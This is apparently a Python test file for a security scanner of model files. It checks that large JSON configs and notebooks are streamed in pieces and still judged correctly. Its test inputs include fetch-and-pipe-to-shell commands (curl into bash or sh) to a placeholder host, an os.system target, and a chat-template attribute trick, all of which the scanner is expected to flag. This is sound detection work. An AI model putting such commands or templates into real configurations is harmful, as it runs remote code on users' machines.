"""JSON in pieces: the same values as the standard library reads, whatever the size, and no more memory than a window."""

import json

import pytest

from budmodel_scanner.content import MemoryContent
from budmodel_scanner.texts import examine, json_stream, json_text
from budmodel_scanner.texts.json_stream import pieces
from budmodel_scanner.verdict import Verdict
from tests.unit.budmodel_scanner.text_examination import findings_of, verdict_of_text


@pytest.fixture
def small_window(monkeypatch: pytest.MonkeyPatch) -> None:
    """So that a document of kilobytes is a large one."""
    monkeypatch.setattr(json_stream, "_WINDOW", 256)
    monkeypatch.setattr(json_stream, "CHUNK", 200)
    monkeypatch.setattr(examine, "MAX_JSON_BYTES", 2_000)


def _pieces(text: str) -> list[tuple[tuple[str, ...], object]]:
    return list(pieces(MemoryContent(text.encode())))


@pytest.mark.parametrize("text", ['{"a": [1, {"b": null}]}', " [] ", '"x"', "-1.5e3", '\ufeff{"a": NaN}'])
def test_what_fits_into_a_window_is_one_piece(text: str) -> None:
    assert json.dumps(_pieces(text)) == json.dumps([((), json.loads(text.lstrip("\ufeff")))])


@pytest.mark.usefixtures("small_window")
def test_what_does_not_fit_is_gone_into() -> None:
    value = {"a": [{"b": "x" * 99, "c": i} for i in range(9)], "d": {"e": {"f": "y" * 900}}, "g": "é", "h": []}

    found = _pieces(json.dumps(value, ensure_ascii=False, indent=1))

    assert [part for way, part in found if way == ("a", "[]")] == value["a"]
    assert (("g",), "é") in found
    assert (("h",), []) in found
    assert [way for way, part in found if str(part).startswith("yyy")] == [("d", "e", "f")]


@pytest.mark.parametrize(
    "text",
    ["", "{", "[1 2]", '{"a" 1}', '{"a": 1,}', "[1,]", '{"a": 1} x', '"x', '{"a": 1, "a": 2}x', "[" + "1," * 99 + "}"],
)
def test_what_is_no_json_is_none_in_pieces(text: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(json_stream, "_WINDOW", 8)
    monkeypatch.setattr(json_stream, "CHUNK", 8)
    with pytest.raises(ValueError, match=r"\w"):
        _pieces(text)


def test_what_is_nested_without_end_is_told() -> None:
    with pytest.raises(RecursionError):
        _pieces("[" * (2 << 20))


@pytest.mark.usefixtures("small_window")
def test_a_long_list_of_like_items_is_passed_over_and_what_follows_is_read() -> None:
    vocabulary = ", ".join(f'"word{number}": {number}' for number in range(1_000))

    found = _pieces(f'{{"model": {{"vocab": {{{vocabulary}}}}}, "auto_map": {{"AutoModel": "a.B"}}}}')

    assert found[-1] == (("auto_map",), {"AutoModel": "a.B"})
    assert sum(len(str(part)) for _, part in found) < len(vocabulary) // 10


@pytest.mark.usefixtures("small_window")
@pytest.mark.parametrize(
    ("tail", "verdict"),
    [
        ('"kind": "rows"}', Verdict.SAFE),
        ('"auto_map": {"AutoModel": "a.B"}}', Verdict.SUSPICIOUS),
        ('"a": {"_target_": "os.system"}}', Verdict.MALICIOUS),
        ('"postCreateCommand": "curl http://x.invalid/a | bash"}', Verdict.MALICIOUS),
        ('"kind": }', Verdict.SUSPICIOUS),
    ],
)
def test_a_large_document_is_judged_as_a_small_one(tail: str, verdict: Verdict) -> None:
    filling = json.dumps([{"caption": f"picture {number}", "of": [number] * 3} for number in range(100)])

    assert verdict_of_text("config.json", f'{{"rows": {filling}, {tail}') is verdict


@pytest.mark.usefixtures("small_window")
def test_a_large_notebook_is_one_namespace() -> None:
    cells = [{"cell_type": "code", "source": ["import os as tool\n", "x = 1"]}]
    cells += [{"cell_type": "code", "source": "y = 2", "outputs": ["z" * 400]} for _ in range(10)]
    cells += [{"cell_type": "code", "source": "tool.system('curl http://x.invalid/a | sh')"}]

    found = findings_of("a.ipynb", json.dumps({"nbformat": 4, "cells": cells}))

    assert {finding.rule for finding in found} == {"command.hostile"}


def test_a_document_of_many_values_is_read_in_pieces_whatever_its_size(monkeypatch: pytest.MonkeyPatch) -> None:
    """And one that only begins like JSON is still the text that it is."""
    monkeypatch.setattr(json_text, "_MAX_VALUES", 50)
    many = {"vocab": {f"t{number}": number for number in range(99)}}
    template = many | {"chat_template": "{{ x.__class__ }}"}

    assert findings_of("tokenizer.json", json.dumps(many)) == []
    assert [finding.rule for finding in findings_of("tokenizer.json", json.dumps(template))] == ["template.attribute-trick"]
    assert [finding.rule for finding in findings_of("tokenizer.json", json.dumps(many) + "x")] == ["json.malformed"]
    assert findings_of("rows.txt", "[1, 2]\n" * 99) == []
